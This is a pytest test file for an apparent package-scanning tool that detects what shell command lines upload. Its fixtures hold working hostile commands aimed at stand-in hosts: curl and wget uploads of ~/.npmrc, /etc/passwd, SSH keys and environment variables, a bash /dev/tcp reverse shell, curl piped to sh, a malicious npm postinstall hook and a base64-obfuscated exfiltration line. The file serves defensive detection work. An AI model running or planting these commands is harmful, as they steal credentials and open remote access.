"""Shell command lines: what they upload, and bash's /dev/tcp connections."""

from __future__ import annotations

import pytest

from egress.catalog.commands import line_data, read_line
from egress.catalog.shell_tools import load_shell_tools
from egress.install_scripts import script_findings
from egress.model import Ecosystem, FindingKind, PackageArtifact


@pytest.mark.parametrize("line, sent", [
    ("curl -d @$HOME/.npmrc https://x.example", ("file ~/.npmrc",)),
    ("curl -F f=@/etc/passwd https://x.example", ("file /etc/passwd",)),
    ("wget --post-file=$HOME/.ssh/id_rsa http://x.example", ("file ~/.ssh/id_rsa",)),
    ("cat ~/.npmrc | curl -d @- https://x.example", ("file ~/.npmrc",)),
    ('curl -d "$(env)" https://x.example', ("env",)),
    ("env | curl -d @- https://x.example", ("env",)),
    ("curl https://x.example/$(whoami)", ("username",)),
    ('curl -H "A: $NPM_TOKEN" https://x.example', ("env NPM_TOKEN",)),
    ("curl -o $HOME/x https://x.example", ()),                 # a download into the home folder sends nothing
    ("curl -s https://x.example/i.sh | sh", ()),
])
def test_what_a_command_line_sends(line: str, sent: tuple[str, ...]) -> None:
    assert line_data(line) == sent


def test_a_reverse_shell_through_dev_tcp_is_one_connection() -> None:
    reading = read_line(load_shell_tools(), 'bash -c "bash -i >& /dev/tcp/198.51.100.66/4444 0>&1"')
    assert [(u.tool.label, [d.text for d in u.destinations]) for u in reading.tools] == [
        ("bash /dev/tcp", ["198.51.100.66:4444"])]


def test_an_install_hook_uploading_npmrc_carries_the_file() -> None:
    artifact = PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=lambda want: iter(()), metadata={
        "scripts": {"postinstall": "curl -s -d @$HOME/.npmrc https://203.0.113.5/u"}, "script_lines": {"postinstall": 3}})
    [net] = [f for f in script_findings(artifact) if f.kind is FindingKind.NETWORK]
    assert (net.api, net.line, net.data_sources, [d.text for d in net.destinations]) == (
        "curl", 3, ("file ~/.npmrc",), ["https://203.0.113.5/u"])


def test_a_base64_command_piped_to_a_shell_is_read_decoded() -> None:
    import base64

    from egress.catalog.commands import read_line
    from egress.catalog.shell_tools import load_shell_tools

    encoded = base64.b64encode(b'curl -s https://x.example.com/i -d "$(env)"').decode()
    reading = read_line(load_shell_tools(), f"echo {encoded} | base64 -d | sh")
    assert [(u.tool.label, tuple(d.text for d in u.destinations), u.data, u.via) for u in reading.tools] == [
        ("curl", ("https://x.example.com/i",), ("env",), "base64 -d | sh")]
    # decoded text that is no command line reaches nothing
    assert read_line(load_shell_tools(), "echo aGVsbG8gd29ybGQK | base64 -d | sh").tools == []
